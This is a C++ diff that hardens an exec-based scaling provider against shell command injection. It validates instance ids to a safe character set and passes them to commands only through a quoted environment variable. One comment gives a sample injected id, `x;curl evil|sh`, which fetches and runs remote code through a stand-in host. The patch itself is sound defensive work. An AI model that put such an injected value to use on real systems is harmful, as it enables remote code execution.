@@ -14,11 +14,25 @@ namespace ballast::scaling {
 namespace {
 
 // One {"id","host","port","state"?} object; problems are added to `r`.
+bool isSafeInstanceId(std::string_view id) {
+  if (id.empty() || id.size() > 64) return false;
+  return std::all_of(id.begin(), id.end(), [](char c) {
+    return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '.' || c == '_' ||
+           c == '-';
+  });
+}
+
 std::optional<Instance> readInstance(core::JsonReader& r, core::WallTime now) {
   Instance instance;
   instance.startedAt = now;
   instance.state = InstanceState::kRunning;
-  auto id = r.string("id", {.required = true, .minLength = 1, .maxLength = 253});
+  // The id goes back to the scale-in command (as BALLAST_INSTANCE): only
+  // characters no shell gives a meaning to.
+  auto id = r.string("id", {.required = true, .minLength = 1, .maxLength = 64});
+  if (id && !isSafeInstanceId(*id)) {
+    r.addError("id", "must be 1-64 characters of A-Z, a-z, 0-9, '.', '_' and '-'");
+    id.reset();
+  }
   auto host = r.string("host", {.required = true, .minLength = 1, .maxLength = 253});
   if (host && !core::isValidHost(*host))
     r.addError("host", "is not a valid host name or IP address");
@@ -75,10 +89,13 @@ ExecProvider::ExecProvider(ExecProviderSpec spec, std::string serviceName, core:
 core::Result<std::string> ExecProvider::run(const std::string& commandTemplate,
                                             const std::string& instanceId) {
   SpawnRequest request;
-  std::map<std::string, std::string> values = {{"service", serviceName_}};
+  // The id came from a command's output: it reaches the command only as an
+  // environment variable, and {instance} expands to a quoted reference to it,
+  // never to its text (an id like `x;curl evil|sh` stays one word).
+  std::map<std::string, std::string> values = {{"service", shellQuote(serviceName_)}};
   request.environment.emplace_back("BALLAST_SERVICE", serviceName_);
   if (!instanceId.empty()) {
-    values["instance"] = instanceId;
+    values["instance"] = "\"$BALLAST_INSTANCE\"";
     request.environment.emplace_back("BALLAST_INSTANCE", instanceId);
   }
   request.command = substitutePlaceholders(commandTemplate, values);
